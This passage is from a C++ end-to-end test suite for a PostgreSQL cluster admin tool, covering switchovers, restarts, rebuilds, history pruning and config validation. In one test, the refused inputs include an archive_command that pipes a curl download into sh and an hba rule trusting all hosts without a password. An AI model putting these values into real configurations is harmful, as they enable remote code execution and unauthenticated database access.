        return r && !r->rows.empty() && r->rows[0][0] == "t";
      },
      30s))
      << "the async's replay is not held back";
  AdmRun lower = cmd("config set max_connections=90");
  ASSERT_EQ(lower.code, 0) << lower.out;
  AdmInBackground rolling2("-z " + h_->zkConnect() + " -c " + h_->options().cluster + " restart --rolling");
  EXPECT_TRUE(h_->waitFor([&] { return has(rolling2.output(), "waiting for async " + A) || rolling2.done(); }, 120s))
      << rolling2.output();
  EXPECT_FALSE(has(rolling2.output(), "restarting postgres on " + A))
      << "the async was restarted before it replayed the primary's new values: " << rolling2.output();
  reader.reset();  // the replay goes on
  AdmRun lowered = rolling2.wait();
  ASSERT_EQ(lowered.code, 0) << lowered.out;
  EXPECT_TRUE(has(lowered.out, "restarting the primary")) << lowered.out;
  for (int i = 0; i < 3; ++i) EXPECT_EQ(show(i, "max_connections"), "90") << "peer " << i;
  for (int i = 0; i < 3; ++i) {
    if (i == primaryNow) continue;
    auto paused = h_->sql(i, "SELECT pg_get_wal_replay_pause_state()");
    ASSERT_TRUE(paused && !paused->rows.empty()) << "peer " << i;
    EXPECT_EQ(paused->rows[0][0].value_or(""), "not paused") << "peer " << i;
  }
  AdmRun shown = cmd("show");
  EXPECT_TRUE(has(shown.out, "pending      none")) << shown.out;

  const int firstAfter = writer.nextId();
  ASSERT_TRUE(h_->waitFor([&] { return writer.ackedSince(firstAfter) > 0; }, 60s));
  writer.stop();
  int now = h_->writablePrimary();
  ASSERT_GE(now, 0);
  std::set<int> present = ids(now);
  const std::set<int> acked = writer.acked();
  size_t lost = 0;
  for (int id : acked) lost += present.count(id) == 0;
  EXPECT_EQ(lost, 0u) << "acknowledged rows are missing";
  std::cerr << "[config] rolling restarts: " << acked.size() << " rows acknowledged of " << writer.nextId() - 1
            << " attempted, " << lost << " lost; longest time between two acknowledgements "
            << writer.longestGap().count() << " ms\n";
  EXPECT_EQ(h_->zkState()->generation, 2) << "one switchover, no failover";
  for (int i = 0; i < 3; ++i) EXPECT_EQ(rebuilds(i), rebuildsBefore[i]) << "peer " << i << " was rebuilt";
}

// `switchover` to the async in one command (two promote requests), at a scheduled time,
// with Patroni's --leader, under writes: nothing is written before the time, no
// acknowledged row is lost. Its refusals change nothing. Then `history --prune`.
TEST_F(AdmTest, SwitchoverToTheAsyncInOneCommandAtAScheduledTimeAndHistoryPruning) {
  ASSERT_NO_FATAL_FAILURE(startVerifiedCluster());
  const int primary = roles_.primary, async = roles_.async;
  const std::string P = roles_.P, S = roles_.S, A = roles_.A;

  // Refusals: a clear reason, the exit status, the state byte for byte as it was.
  const std::string before = h_->zkState()->serialize();
  expectExit("switchover --candidate nobody", 2,
             "no peer nobody in the cluster; its peers are " + P + " (primary), " + S + " (sync), " + A + " (async)");
  expectExit("switchover --candidate " + P, 1, P + " is the primary already");
  expectExit("switchover --leader " + S + " --candidate " + A, 1,
             "the leader given, " + S + ", is not the primary: the primary is " + P);
  expectExit("switchover --candidate " + A + " --scheduled 2020-01-01T00:00:00Z", 2, "is in the past");
  expectExit("switchover --scheduled tomorrow", 2, "expected an ISO 8601 time with its zone");
  expectExit("switchover --scheduled 2099-01-01T00:00:00", 2);
  EXPECT_EQ(h_->zkState()->serialize(), before);
  // An async that does not stream (its WAL receiver told to connect nowhere).
  ASSERT_TRUE(h_->sql(async, "ALTER SYSTEM SET primary_conninfo = ''").ok());
  ASSERT_TRUE(h_->sql(async, "SELECT pg_reload_conf()").ok());
  ASSERT_TRUE(h_->waitFor([&] { return cmd("verify").code != 0; }, 30s)) << "the async still streams";
  expectExit("switchover --candidate " + A, 1, A + " is not streaming from ");
  EXPECT_EQ(h_->zkState()->serialize(), before);
  ASSERT_TRUE(h_->sql(async, "ALTER SYSTEM RESET primary_conninfo").ok());
  ASSERT_TRUE(h_->sql(async, "SELECT pg_reload_conf()").ok());
  ASSERT_EQ(verifyEventually(60s).code, 0);
  ASSERT_EQ(cmd("freeze -r test").code, 0);
  const std::string frozen = h_->zkState()->serialize();
  expectExit("switchover --candidate " + A, 1, "the cluster is frozen");
  EXPECT_EQ(h_->zkState()->serialize(), frozen);
  ASSERT_EQ(cmd("unfreeze").code, 0);

  ASSERT_TRUE(h_->sql(primary, "CREATE TABLE acked (id int PRIMARY KEY)").ok());
  CarefulWriter writer(h_->multiHostConninfo());
  ASSERT_TRUE(h_->waitFor([&] { return writer.ackedSince(1) >= 5; }, 30s));
  const EpochMs at = wallNowMs() + 3000;
  const size_t historyBefore = h_->history().size();
  AdmRun done = cmd("switchover --leader " + P + " --candidate " + A + " --scheduled " + formatIso8601(at));
  const int firstAfter = writer.nextId();
  ASSERT_TRUE(h_->waitFor([&] { return writer.ackedSince(firstAfter) >= 5; }, 60s));
  writer.stop();
  ASSERT_EQ(done.code, 0) << done.out << h_->describe();
  std::cerr << "[switchover] dugong-adm's output:\n" << done.out;
  EXPECT_TRUE(has(done.out, "waiting until " + formatIso8601(at))) << done.out;
  EXPECT_TRUE(has(done.out, "switching over from " + P + " to " + A + " (async): 2 promote requests")) << done.out;
  EXPECT_TRUE(has(done.out, "switchover done: " + A + " is the writable primary")) << done.out;
  auto after = h_->zkState();
  ASSERT_TRUE(after.has_value());
  EXPECT_EQ(after->primary.id, A);
  EXPECT_EQ(after->generation, 3) << "async to sync, then sync to primary";
  // Nothing was written before the time asked for.
  auto history = h_->history();
  ASSERT_GT(history.size(), historyBefore);
  for (size_t i = historyBefore; i < history.size(); ++i) {
    auto record = nlohmann::json::parse(history[i].data, nullptr, false);
    auto t = parseTime(record.value("time", std::string()));
    ASSERT_TRUE(t.ok()) << history[i].data;
    EXPECT_GE(*t, at) << history[i].data;
  }
  std::set<int> present = ids(async);
  size_t lost = 0;
  for (int id : writer.acked()) lost += present.count(id) == 0;
  EXPECT_EQ(lost, 0u) << "acknowledged rows are missing";
  std::cerr << "[switchover] to async[0] in one command: longest time between two acknowledgements "
            << writer.longestGap().count() << " ms\n";

  // history --prune: bad input refused, nothing removed; then the oldest removed. Once
  // the old primary has rejoined as an async (its last history records), the history
  // stays as it is.
  ASSERT_TRUE(h_->waitFor([&] { auto st = h_->zkState(); return st && containsPeer(st->async, P); }, 60s))
      << h_->describe();
  ASSERT_EQ(verifyEventually(60s).code, 0);
  const size_t total = h_->history().size();
  ASSERT_GE(total, 4u);
  for (const char* bad : {"history --prune", "history --keep 2", "history --prune --keep 0 -y",
                          "history --prune --keep -1 -y"}) {
    expectExit(bad, 2);
  }
  expectExit("history --prune --keep 2", 1);
  EXPECT_EQ(h_->history().size(), total);
  const auto newest = h_->history().back();
  AdmRun pruned = cmd("history --prune --keep 2 -y");
  ASSERT_EQ(pruned.code, 0) << pruned.out;
  EXPECT_TRUE(has(pruned.out, "removed " + std::to_string(total - 2) + " history records; 2 kept")) << pruned.out;
  auto left = h_->history();
  ASSERT_EQ(left.size(), 2u);
  EXPECT_EQ(left.back().node, newest.node);
  EXPECT_EQ(left.back().data, newest.data);
  expectExit("history --prune --keep 5 -y", 0, "nothing to prune");
  expectExit("history", 0);
  EXPECT_EQ(h_->zkState()->primary.id, A);
}

// restart --pending restarts only the peers whose postgres has settings waiting for a
// restart, and says which and why; restart --scheduled waits for its time.
TEST_F(AdmTest, RestartPendingRestartsOnlyThePeersThatNeedItAndRestartScheduledWaits) {
  ASSERT_NO_FATAL_FAILURE(startVerifiedCluster());
  const int primary = roles_.primary, sync = roles_.sync, async = roles_.async;
  const std::string P = roles_.P, S = roles_.S, A = roles_.A;
  auto started = [&](int i) { return h_->peer(i).pg->value("SELECT pg_postmaster_start_time()"); };

  expectExit("restart --pending", 0, "nothing to restart");
  expectExit("restart --pending --rolling", 2);
  expectExit("restart --pending --scheduled 2020-01-01T00:00:00Z", 2, "is in the past");

  // A restart-only setting changed on the async alone (ALTER SYSTEM is allowed on a standby).
  ASSERT_TRUE(h_->sql(async, "ALTER SYSTEM SET shared_buffers = '24MB'").ok());
  ASSERT_TRUE(h_->sql(async, "SELECT pg_reload_conf()").ok());
  ASSERT_TRUE(h_->waitFor(
      [&] {
        auto st = h_->status(async);
        return st && (*st)["postgres"]["pendingRestart"].dump().find("shared_buffers") != std::string::npos;
      },
      30s))
      << h_->describe();
  const std::string p0 = started(primary), s0 = started(sync), a0 = started(async);
  AdmRun pending = cmd("restart --pending --wait 120");
  ASSERT_EQ(pending.code, 0) << pending.out << h_->describe();
  EXPECT_TRUE(has(pending.out, A + " (async) needs a restart: shared_buffers changed")) << pending.out;
  EXPECT_TRUE(has(pending.out, P + " (primary) runs its configuration: not restarted")) << pending.out;
  EXPECT_TRUE(has(pending.out, S + " (sync) runs its configuration: not restarted")) << pending.out;
  EXPECT_NE(started(async), a0);
  EXPECT_EQ(started(primary), p0);
  EXPECT_EQ(started(sync), s0);
  EXPECT_EQ(h_->peer(async).pg->value("SHOW shared_buffers"), "24MB");
  EXPECT_EQ(h_->zkState()->generation, 1) << "no switchover, no failover";

  const EpochMs at = wallNowMs() + 2000;
  AdmRun scheduled = cmd("restart " + S + " --scheduled " + formatIso8601(at));
  ASSERT_EQ(scheduled.code, 0) << scheduled.out;
  EXPECT_TRUE(has(scheduled.out, "waiting until " + formatIso8601(at))) << scheduled.out;
  EXPECT_NE(started(sync), s0);
  auto restartedAt = parseTime(h_->peer(sync).pg->value(
      "SELECT to_char(pg_postmaster_start_time() AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS.MS\"Z\"')"));
  ASSERT_TRUE(restartedAt.ok());
  EXPECT_GE(*restartedAt, at) << "restarted before the time asked for";
}

// rebuild --full copies a standby afresh where a plain rebuild would start it as it is:
// a file only the old directory held is gone; an earlier set-aside directory is never
// overwritten (refused, nothing changed).
TEST_F(AdmTest, RebuildFullCopiesAStandbyAfresh) {
  int primary = startCluster();
  ASSERT_GE(primary, 0);
  const int async = indexWithRole("async");
  const std::string dataDir = h_->peer(async).pg->options.dataDir;
  const std::string config = quote(h_->peer(async).configPath);
  h_->stopAgent(async);
  std::ofstream(dataDir + "/dugong-test-witness") << "only in the old directory\n";

  std::filesystem::create_directories(dataDir + ".before-full-rebuild");
  expectExit("rebuild --full -y --wait 0 --config " + config, 1, "exists already");
  EXPECT_TRUE(std::filesystem::exists(dataDir + "/dugong-test-witness"));
  std::filesystem::remove(dataDir + ".before-full-rebuild");

  AdmRun full = cmd("rebuild --full -y --wait 0 --config " + config);
  ASSERT_EQ(full.code, 0) << full.out;
  EXPECT_TRUE(has(full.out, "removed the old data directory " + dataDir + ".before-full-rebuild")) << full.out;
  EXPECT_FALSE(std::filesystem::exists(dataDir + "/dugong-test-witness")) << "not a fresh copy";
  EXPECT_FALSE(std::filesystem::exists(dataDir + ".before-full-rebuild"));
  h_->startAgent(async);
  EXPECT_TRUE(h_->waitFor([&] { return h_->httpStatus(async, "/replica") == 200; }, 120s)) << h_->logTail(async);
  EXPECT_EQ(h_->zkState()->generation, 1);
}

// A client of `cluster` on a ZooKeeper the test started, no agents.
Result<std::unique_ptr<zk::Client>> clientOf(dugong::testing::ZooKeeperCluster& server, const std::string& cluster) {
  zk::ZkOptions options;
  options.connectString = server.connectString();
  options.cluster = cluster;
  return zk::Client::connect(options, 20s);
}

// `config set` against a real ZooKeeper and the real postgres binary, no agents: what
// postgres refuses (operator review P6-P8) and what no host allowed (issue 41) is
// refused with the reason and nothing written, the stored node byte for byte as before;
// a value is stored exactly; what this host's dugong.yaml allows is accepted.
TEST(AdmConfigSet, RefusedValuesLeaveTheStoredConfigurationUnchanged) {
  auto server = dugong::testing::ZooKeeperCluster::standalone();
  auto zk = clientOf(*server, "admconfig");
  ASSERT_TRUE(zk) << zk.error();
  auto stored = [&] {
    auto n = (*zk)->readConfig();
    return n && n->exists ? n->data : std::string("(absent)");
  };
  dugong::testing::ScratchDir dir("dugong-adm-config");
  // dugong-adm's file needs the zookeeper section; -z wins over it.
  const std::string head = "cluster: admconfig\nzookeeper:\n  connect: " + server->connectString() + "\n";
  const std::string plain = dir.path() + "/plain.yaml";
  std::ofstream(plain) << head;
  auto set = [&](const std::string& args, const std::string& file) {
    return adm("-z " + server->connectString() + " -c admconfig --config " + file + " config set " + args);
  };
  AdmRun first = set("work_mem=8MB " + quote("log_line_prefix=%m [%p] "), plain);
  ASSERT_EQ(first.code, 0) << first.out;
  const std::string bytes = stored();
  auto config = pg::ClusterConfig::parse(bytes);
  ASSERT_TRUE(config) << bytes;
  EXPECT_EQ(config->settings.at("log_line_prefix"), "%m [%p] ") << bytes;  // the trailing space kept

  for (const auto& [args, reasons] : std::vector<std::pair<std::string, std::vector<std::string>>>{
           {"work_mem=3TB", {"\"work_mem\": \"3TB\"", "Value exceeds integer range"}},
           {"work_mem=16ms", {"invalid value for parameter \"work_mem\": \"16ms\""}},
           {"log_statement=everything", {"\"log_statement\": \"everything\"", "Available values: none, ddl, mod, all"}},
           {quote("log_line_prefix='%m"), {"log_line_prefix", "quote"}},
           {quote("archive_command=curl -s http://x | sh"),
            {"archive_command = 'curl -s http://x | sh'", "runs a command", "clusterConfig.allowUnsafe: [archive_command]"}},
           {"shared_preload_libraries=pg_stat_statements", {"shared_preload_libraries", "loads code"}},
           {"fsync=off", {"fsync", "clusterConfig.allowUnsafe: [fsync]"}},
           {"max_standby_streaming_delay=-1", {"max_standby_streaming_delay", "replay"}},
           {"--add-hba " + quote("host all all 0.0.0.0/0 trust"), {"without a password", "[hba-trust]"}},
           {"--add-hba " + quote("host all postgres 10.0.0.0/8 scram-sha-256"), {"superuser", "[hba-superuser]"}},
       }) {
    AdmRun bad = set(args, plain);
    EXPECT_EQ(bad.code, 2) << args << ": " << bad.out;
    EXPECT_TRUE(has(bad.out, "refused, the cluster configuration is unchanged")) << args << ": " << bad.out;
    for (const auto& reason : reasons) EXPECT_TRUE(has(bad.out, reason)) << args << ": " << bad.out;
    EXPECT_EQ(stored(), bytes) << args;
  }

  // application_name is a real setting, though --describe-config leaves it out (P7).
  AdmRun app = set(quote("application_name=a b"), plain);
  EXPECT_EQ(app.code, 0) << app.out;

  // Allowed by this host's file: accepted; what it does not name stays refused.
  const std::string allowing = dir.path() + "/allowing.yaml";
  std::ofstream(allowing) << head << "clusterConfig:\n  allowUnsafe: [archive_command]\n"
                          << "postgres:\n  settings:\n    work_mem: 4MB\n";
  const std::string before = stored();
  AdmRun fsync = set("fsync=off", allowing);
  EXPECT_EQ(fsync.code, 2) << fsync.out;
  EXPECT_EQ(stored(), before);
  AdmRun allowed = set(quote("archive_command=/usr/bin/true %p"), allowing);
  ASSERT_EQ(allowed.code, 0) << allowed.out;
  auto after = pg::ClusterConfig::parse(stored());
  ASSERT_TRUE(after);
  EXPECT_EQ(after->settings.at("archive_command"), "/usr/bin/true %p");
  // The host's own work_mem shadows the cluster's (P5): said at config set.
  EXPECT_TRUE(has(allowed.out, "this host overrides work_mem")) << allowed.out;
  // A host file that allows something unknown is an error, not a silent no-op.
  const std::string typo = dir.path() + "/typo.yaml";
  std::ofstream(typo) << head << "clusterConfig:\n  allowUnsafe: [archive_comand]\n";
  const std::string beforeTypo = stored();
  AdmRun typoRun = set("work_mem=16MB", typo);
  EXPECT_EQ(typoRun.code, 2) << typoRun.out;
  EXPECT_TRUE(has(typoRun.out, "'archive_comand' is not something")) << typoRun.out;
  EXPECT_EQ(stored(), beforeTypo);
}

// `show` of a quorum-mode cluster (docs/decisions/0079, phase 4) against a real ZooKeeper,
// no agents: the format-2 state is read, and the mode, k and set are shown (text and JSON).
TEST(AdmShow, AQuorumStateIsShownWithItsModeKAndSet) {
  auto server = dugong::testing::ZooKeeperCluster::standalone();
  auto zk = clientOf(*server, "admquorum");
  ASSERT_TRUE(zk) << zk.error();
  auto id = [](const std::string& name) { return zk::test::peer(name); };
  ClusterState s;
  s.generation = 4;
  s.primary = id("db1");
  s.quorum = Quorum{1, {id("db2"), id("db3")}};
  s.async = {id("db4")};
  s.initWal = WalPosition::parse("0/5000110").value();
  s.initTimeline = 2;
  ASSERT_TRUE((*zk)->putState(s, -1, "adm test").ok);
  const std::string common = "-z " + server->connectString() + " -c admquorum show";
  AdmRun text = adm(common);
  EXPECT_EQ(text.code, 0) << text.out;
  EXPECT_TRUE(has(text.out, "quorum: ANY 1 (db2, db3): a commit waits for 1 of 2 members, a takeover reads 2 of them"))
      << text.out;
  AdmRun json = adm("--json " + common);
  ASSERT_EQ(json.code, 0) << json.out;
  auto j = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << json.out;
  EXPECT_EQ(j["replication"], nlohmann::json({{"mode", "quorum"}, {"k", 1}, {"members", {"db2", "db3"}}, {"readQuorum", 2}}))
      << json.out;

  // The commands that write the state read format 2 too (docs/decisions/0089): freeze is
  // written and keeps the set; one-node-write mode, which a quorum state cannot be in, is
  // refused with the readers' reason and nothing is written.
  AdmRun freeze = adm("-z " + server->connectString() + " -c admquorum freeze -r maintenance");
  EXPECT_EQ(freeze.code, 0) << freeze.out;
  auto frozen = (*zk)->readState();
  ASSERT_TRUE(frozen && frozen->exists);
  auto parsed = ClusterState::parse(frozen->data, ClusterState::Formats::kAll);
  ASSERT_TRUE(parsed.ok()) << parsed.error();
  EXPECT_TRUE(parsed->frozen());
  ASSERT_TRUE(parsed->quorum.has_value());
  EXPECT_EQ(peerIds(parsed->quorum->members), "db2, db3");
  AdmRun onwm = adm("-z " + server->connectString() + " -c admquorum set-onwm -m on -y");
  EXPECT_NE(onwm.code, 0) << onwm.out;
  EXPECT_TRUE(has(onwm.out, "a format 2 state cannot be in one-node-write mode")) << onwm.out;
  EXPECT_TRUE(has(onwm.out, "nothing was written")) << onwm.out;
  auto after = (*zk)->readState();
  ASSERT_TRUE(after && after->exists);
  EXPECT_EQ(after->data, frozen->data);
}

}  // namespace
}  // namespace dugong::e2e
